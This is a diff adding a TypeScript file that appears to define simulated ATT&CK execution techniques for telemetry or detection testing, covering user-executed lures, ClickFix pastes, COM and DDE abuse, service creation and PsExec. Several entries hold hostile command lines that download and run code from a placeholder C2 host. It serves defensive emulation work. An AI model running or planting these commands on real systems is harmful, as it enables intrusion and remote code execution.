@@ -1,0 +1,232 @@
+import { t, v } from "../dsl";
+
+const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
+const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
+
+/** Execution: interpreters, WMI, services and user execution as real intrusions chain them. (continued) */
+export const executionB = [
+  t("T1204", "User execution", "The user double-clicks a lure from Downloads.", [
+    v(
+      "exe",
+      [
+        {
+          cmd: '"{{downloads}}\\{{Invoice|Statement|Scan}}_{{n}}.exe" ',
+          parent: "@explorer",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1204.001", "Malicious link", "A link opened in the browser downloads a script the user runs.", [
+    v(
+      "link-js",
+      [
+        { by: "@msedge", files: ["{{downloads}}\\{{rand}}.zip"], net: [["{{c2}}", 443]] },
+        { cmd: 'wscript.exe "{{tmp}}\\Temp1_{{rand}}.zip\\{{rand}}.js"', parent: "@explorer" },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1204.002", "Malicious file", "The user opens an ISO/LNK/document lure and its payload runs.", [
+    v(
+      "lnk-in-iso",
+      [
+        {
+          cmd: "C:\\Windows\\System32\\cmd.exe /c start /min rundll32.exe {{rand}}.dll,DllRegisterServer",
+          parent: "@explorer",
+          as: "c",
+        },
+        { cmd: "rundll32.exe {{rand}}.dll,DllRegisterServer", parent: "c", net: [["{{c2}}", 443]] },
+      ],
+      { shell: "none" },
+    ),
+    v(
+      "macro-doc",
+      [
+        { cmd: `"${WORD}" /n "{{downloads}}\\{{rand}}.doc"`, as: "w", parent: "@explorer" },
+        { cmd: "regsvr32.exe /s {{tmp}}\\{{rand}}.ocx", parent: "w" },
+      ],
+      { shell: "none" },
+    ),
+    v("exe-double-click", [{ cmd: '"{{downloads}}\\Payment_{{n}}.pdf.exe" ', parent: "@explorer" }], {
+      shell: "none",
+    }),
+  ]),
+  t(
+    "T1204.004",
+    "Malicious copy and paste",
+    "ClickFix/fake CAPTCHA: the user pastes a PowerShell command into Win+R.",
+    [
+      v(
+        "clickfix-run",
+        [
+          {
+            cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -c "iex(iwr -UseBasicParsing https://{{c2}}/verify.txt)" # I am not a robot - reCAPTCHA Verification ID: {{n}}',
+            parent: "@explorer",
+            net: [["{{c2}}", 443]],
+          },
+        ],
+        { shell: "none" },
+      ),
+      v(
+        "clickfix-mshta",
+        [
+          {
+            cmd: "\"C:\\Windows\\system32\\mshta.exe\" https://{{c2}}/{{rand}} # ''Verify you are human - Ray ID: {{rand2}}''",
+            parent: "@explorer",
+          },
+        ],
+        { shell: "none" },
+      ),
+    ],
+  ),
+  t(
+    "T1204.005",
+    "Malicious library",
+    "A package install from a public index runs attacker code (pip/npm postinstall).",
+    [
+      v("pip", [
+        {
+          cmd: '"C:\\Program Files\\Python311\\python.exe" -m pip install {{requestss|colourama|pyhttpx}}',
+          net: [["pypi.org", 443]],
+        },
+      ]),
+      v("npm", [
+        {
+          cmd: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install {{rand}}-utils',
+          net: [["registry.npmjs.org", 443]],
+        },
+      ]),
+    ],
+  ),
+  t("T1559", "Inter-process communication", "Named-pipe based IPC between implant processes.", [
+    v("pipe", [{ cmd: "{{tools}}\\{{name}}.exe", pipes: ["\\MSSE-{{n}}-server"] }]),
+  ]),
+  t("T1559.001", "COM", "COM objects (MMC20.Application, ShellWindows) used to run commands.", [
+    v(
+      "mmc20",
+      [
+        {
+          ps: '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","localhost")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")',
+        },
+        { cmd: '"C:\\Windows\\system32\\mmc.exe" -Embedding', parent: "@svchost:DcomLaunch", as: "mmc" },
+        { cmd: '"C:\\Windows\\system32\\cmd.exe" /c calc.exe', parent: "mmc" },
+      ],
+      { shell: "ps" },
+    ),
+    v(
+      "shellwindows",
+      [
+        {
+          ps: '$o=[activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $o.item().Document.Application.ShellExecute("cmd.exe","/c whoami","C:\\Windows\\System32",$null,0)',
+        },
+        { cmd: '"C:\\Windows\\System32\\cmd.exe" /c whoami', parent: "@explorer" },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1559.002", "Dynamic data exchange", "DDE fields in Word/Excel launching cmd.", [
+    v(
+      "dde-excel",
+      [
+        { cmd: `"${EXCEL}" "{{downloads}}\\{{rand}}.csv"`, as: "xl", parent: "@explorer" },
+        {
+          cmd: "cmd.exe /c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/p')",
+          parent: "xl",
+        },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1569", "System services", "A service created and started to run a payload.", [
+    v(
+      "sc",
+      ['sc create {{name}} binPath= "C:\\Windows\\Temp\\{{rand}}.exe" start= demand', "sc start {{name}}"],
+      { elevated: true },
+    ),
+  ]),
+  t(
+    "T1569.002",
+    "Service execution",
+    "sc create/start, PsExec and New-Service run payloads as SYSTEM via services.exe.",
+    [
+      v(
+        "sc",
+        [
+          {
+            cmd: 'sc create {{name}} binPath= "cmd.exe /c {{tools}}\\{{rand}}.exe" type= own start= demand',
+            then: [
+              {
+                id: "svc",
+                kind: "service.install",
+                proc: "@services",
+                name: "{{name}}",
+                imagePath: "cmd.exe /c {{tools}}\\{{rand}}.exe",
+              },
+            ],
+          },
+          "sc start {{name}}",
+        ],
+        { elevated: true },
+      ),
+      v(
+        "psexec",
+        [
+          {
+            cmd: "{{tools}}\\PsExec64.exe -accepteula -s -i cmd.exe",
+            then: [
+              {
+                id: "svc",
+                kind: "service.install",
+                proc: "@services",
+                name: "PSEXESVC",
+                imagePath: "%SystemRoot%\\PSEXESVC.exe",
+              },
+            ],
+          },
+          {
+            cmd: "C:\\Windows\\PSEXESVC.exe",
+            parent: "@services",
+            user: "@system",
+            as: "pss",
+            pipes: ["\\PSEXESVC"],
+          },
+          { cmd: "cmd.exe", parent: "pss" },
+        ],
+        { elevated: true },
+      ),
+      v(
+        "new-service",
+        [
+          {
+            ps: "New-Service -Name '{{name}}' -BinaryPathName 'C:\\ProgramData\\{{rand}}.exe' -StartupType Automatic; Start-Service {{name}}",
+            then: [
+              {
+                id: "svc",
+                kind: "service.install",
+                proc: "@services",
+                name: "{{name}}",
+                imagePath: "C:\\ProgramData\\{{rand}}.exe",
+                startType: "auto start",
+              },
+            ],
+          },
+          { cmd: "C:\\ProgramData\\{{rand}}.exe", parent: "@services", user: "@system" },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+    ],
+  ),
+  t("T1674", "Input injection", "Keystrokes injected with SendKeys/WScript.Shell to drive a GUI.", [
+    v(
+      "sendkeys",
+      [
+        {
+          ps: "$w = New-Object -ComObject WScript.Shell; $w.AppActivate('cmd'); $w.SendKeys('powershell -w hidden{ENTER}')",
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+];
